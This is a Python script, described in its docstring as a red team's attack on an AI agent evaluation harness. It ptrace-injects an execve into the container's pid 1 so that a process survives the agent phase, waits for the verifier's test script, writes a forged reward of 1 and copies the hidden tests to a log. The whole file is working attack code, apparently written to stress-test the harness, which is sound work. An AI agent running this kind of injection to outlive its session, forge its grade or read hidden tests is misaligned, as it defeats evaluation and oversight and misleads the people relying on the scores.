"""A red team's attack (tests/test_containers.py), run inside a container in the agent phase: it ptrace-injects an
execve into the container's pid 1, which outlives the agent's processes when only they are killed; the new pid 1
waits for /tests/test.sh (the verifier phase) and forges reward.json. x86_64 only."""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, GETREGS, SETREGS, PEEK, POKE, DETACH = 0x4206, 0x4207, 12, 13, 1, 5, 17
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax "
                                                  "rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
def chk(r, what):
    if r == -1:
        sys.exit(f"{what}: {os.strerror(ctypes.get_errno())}")
    return r
PID = 1
chk(libc.ptrace(SEIZE, PID, None, None), "seize")
chk(libc.ptrace(INTERRUPT, PID, None, None), "interrupt")
os.waitpid(PID, 0x40000000)          # __WALL
regs = Regs()
chk(libc.ptrace(GETREGS, PID, None, ctypes.byref(regs)), "getregs")
print("pid1 stopped: rip=%x orig_rax=%d rax=%d" % (regs.rip, regs.orig_rax, ctypes.c_longlong(regs.rax).value))
word = libc.ptrace(PEEK, PID, ctypes.c_void_p(regs.rip - 2), None) & 0xffff
assert word == 0x050f, "not after a syscall instruction: %x" % word
PY = os.path.realpath(sys.executable)
CODE = r'''
import os, time
while not os.path.exists("/tests/test.sh"):
    time.sleep(0.02)
open("/logs/verifier/reward.json", "w").write('{"reward": 1}')
try:
    open("/logs/verifier/leaked-tests.txt", "w").write(open("/tests/test.sh").read())
except Exception:
    pass
while True:
    try:
        os.waitpid(-1, 0)
    except ChildProcessError:
        time.sleep(1)
'''
strings = [PY.encode() + b"\0", b"-I\0", b"-c\0", CODE.encode() + b"\0"]
base = (regs.rsp - 65536) & ~0xF
blob, ptrs = b"", []
for s in strings:
    ptrs.append(base + len(blob)); blob += s
while len(blob) % 8: blob += b"\0"
argv_at = base + len(blob)
blob += struct.pack("<%dQ" % (len(ptrs) + 1), *ptrs, 0)
for i in range(0, len(blob), 8):
    chk(libc.ptrace(POKE, PID, ctypes.c_void_p(base + i), ctypes.c_void_p(struct.unpack("<Q", blob[i:i+8])[0])), "poke")
regs.rip -= 2; regs.orig_rax = 2**64 - 1; regs.rax = 59          # execve, no syscall restart
regs.rdi, regs.rsi, regs.rdx = ptrs[0], argv_at, 0
chk(libc.ptrace(SETREGS, PID, None, ctypes.byref(regs)), "setregs")
chk(libc.ptrace(DETACH, PID, None, None), "detach")
import time; time.sleep(0.5)
print("pid1 now:", open("/proc/1/cmdline", "rb").read()[:80])
